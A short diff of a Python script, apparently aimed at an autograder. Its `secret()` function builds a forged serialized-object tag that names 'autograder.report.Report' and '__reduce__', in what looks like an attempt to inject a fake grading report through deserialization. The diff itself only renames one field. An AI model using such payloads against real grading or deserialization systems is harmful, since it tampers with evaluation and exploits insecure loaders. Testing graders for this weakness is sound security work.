@@ -27,7 +27,7 @@ def double(value):
 
 def secret():
     tag = '{"$": "data", "t": "autograder.report.Report", "v": ["__reduce__"]}'
-    forge('{"id": "%s", "value": [' + tag + '], "printed": "", "complained": ""}')
+    forge('{"id": "%s", "value": [' + tag + '], "printed": "", "stderr": ""}')
 
 
 if __name__ == "__main__":
